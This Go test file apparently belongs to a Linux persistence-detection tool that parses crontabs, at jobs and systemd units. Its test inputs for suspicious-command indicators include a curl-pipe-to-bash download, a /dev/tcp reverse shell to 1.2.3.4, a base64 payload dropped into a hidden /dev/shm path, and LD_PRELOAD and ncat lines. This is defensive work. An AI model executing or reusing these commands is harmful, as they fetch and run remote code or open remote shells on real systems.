package persistence

import (
	"slices"
	"strings"
	"testing"
)

func TestParseCrontabLine(t *testing.T) {
	for _, c := range []struct {
		in     string
		system bool
		ok     bool
		err    bool
		sched  string
		user   string
		cmd    string
	}{
		{"*/5 * * * * /bin/true", false, true, false, "*/5 * * * *", "", "/bin/true"},
		{"0 0 1 jan,jul mon-fri root  echo  a  b ", true, true, false, "0 0 1 jan,jul mon-fri", "root", "echo  a  b"},
		{"@reboot  alice  /x", true, true, false, "@reboot", "alice", "/x"},
		{"@often /x", false, false, true, "", "", ""},
		{"PATH=/usr/bin:/bin", false, false, false, "", "", ""},
		{"MAILTO = \"\"", false, false, false, "", "", ""},
		{"  # comment", false, false, false, "", "", ""},
		{"* * * *", false, false, true, "", "", ""},
		{"* * * * * root", true, false, true, "", "", ""},
		{"1 2 3 4 5 % x", false, true, false, "1 2 3 4 5", "", "% x"},
	} {
		got, ok, err := ParseCrontabLine(c.in, c.system)
		if ok != c.ok || (err != nil) != c.err || (ok && (got.Schedule != c.sched || got.User != c.user || got.Command != c.cmd)) {
			t.Errorf("%q: %+v ok=%v err=%v", c.in, got, ok, err)
		}
	}
}

func TestIndicators(t *testing.T) {
	for in, want := range map[string][]string{
		"curl -s http://x | bash":              {"download", "pipe_shell"},
		"/usr/bin/curl-config --libs":          nil,
		"echo aGk= | base64 -d > /dev/shm/.k":  {"decode", "temp_path", "hidden_path"},
		"bash -i >& /dev/tcp/1.2.3.4/443 0>&1": {"dev_tcp"},
		"python3 -c 'import socket'":           {"inline_code"},
		"LD_PRELOAD=/x.so ls":                  {"ld_preload"},
		"ncat 1.2.3.4 80":                      {"netcat"},
		"run-parts --report /etc/cron.daily":   nil,
		"/usr/lib/php/sessionclean":            nil,
		". $HOME/.cargo/env":                   nil,
	} {
		if got := Indicators(in); !slices.Equal(got, want) {
			t.Errorf("%q: %v, want %v", in, got, want)
		}
	}
}

func TestParseUnit(t *testing.T) {
	u, errs := ParseUnit([]byte("; c\n[Service]\nExecStart=/a \\\n # inside\n  b\nExecStart=\nExecStart=/c\nEnvironment=A=1\n[X\nstray\n"))
	if got := u.Sections["Service"]["ExecStart"]; !slices.Equal(got, []string{"/a  b", "", "/c"}) {
		t.Errorf("ExecStart %q", got)
	}
	if u.Get("Service", "Environment") != "A=1" || !slices.Equal(u.All("Service", "ExecStart"), []string{"/a  b", "/c"}) {
		t.Errorf("unit %+v", u)
	}
	if len(errs) != 2 {
		t.Errorf("errors %v", errs)
	}
	if ExecPath(`-!!"/opt/x y" --a`) != "/opt/x" || ExecPath("@/bin/sh sh -c x") != "/bin/sh" {
		t.Error("ExecPath")
	}
}

func FuzzCrontab(f *testing.F) {
	f.Add([]byte("SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot x y\n"), true)
	f.Add([]byte("1 5 cron.daily run-parts /etc/cron.daily\n@monthly 15 m x\n"), false)
	f.Fuzz(func(t *testing.T, data []byte, system bool) {
		lines, _ := ParseCrontab(data, system)
		for _, l := range lines {
			if l.Command == "" || l.Schedule == "" || strings.Contains(l.Command, "\n") {
				t.Fatalf("bad line %+v", l)
			}
		}
		ParseAnacrontab(data)
		ParseAtJob("a0000201c4b2a0", data)
		Indicators(string(data))
	})
}

func FuzzUnit(f *testing.F) {
	f.Add([]byte("[Unit]\nDescription=x\n[Service]\nExecStart=/bin/a \\\n b\nUser=x\n[Install]\nWantedBy=multi-user.target\n"))
	f.Add([]byte("[Timer]\nOnCalendar=*-*-* 00:00:00\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		u, _ := ParseUnit(data)
		n := 0
		for _, s := range u.Sections {
			for _, v := range s {
				n += len(v)
			}
		}
		if n > maxDirectives {
			t.Fatalf("%d directives kept", n)
		}
	})
}

func TestParseAtJobOldFormat(t *testing.T) {
	j := ParseAtJob("b00010019a1b2c", []byte("#!/bin/sh\n# atrun uid=0 gid=0\n# mail     root 0\numask 22\nPATH=/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/.x/run\nrm -f /tmp/y\n"))
	if j.Queue != "b" || j.Number != 0x10 || *j.UID != 0 || j.Command != "/tmp/.x/run\nrm -f /tmp/y" || j.Line != 10 {
		t.Errorf("%+v", j)
	}
	// 0x019a1b2c minutes: `date -u -d @$((0x019a1b2c*60)) +%FT%H:%MZ` prints 2021-02-06T09:16Z
	if j.RunAt.Format("2006-01-02T15:04Z") != "2021-02-06T09:16Z" {
		t.Errorf("run at %v", j.RunAt)
	}
	if runPartsName("x.sh") || !runPartsName("0anacron") || runPartsName("") {
		t.Error("runPartsName")
	}
}

func TestExecOutsideUsrAndScripts(t *testing.T) {
	for p, want := range map[string]bool{"/lib/systemd/systemd-logind": false, "systemctl": false, "/usr/sbin/sshd": false,
		"/opt/x": true, "/etc/init.d/x": true, "%h/.local/bin/m": true, "/tmp/y": true, "": false} {
		if got := execOutsideUsr(p); got != want {
			t.Errorf("%q: %v", p, got)
		}
	}
	if got := scriptIndicators([]byte("\x7fELF\x02 /tmp/.x/ curl | sh")); len(got) != 0 {
		t.Errorf("ELF content gave indicators %v", got)
	}
	if got := scriptIndicators([]byte("#!/bin/sh\ncurl x | sh\n# wget\n")); !slices.Equal(got, []string{"download", "pipe_shell"}) {
		t.Errorf("script %v", got)
	}
}
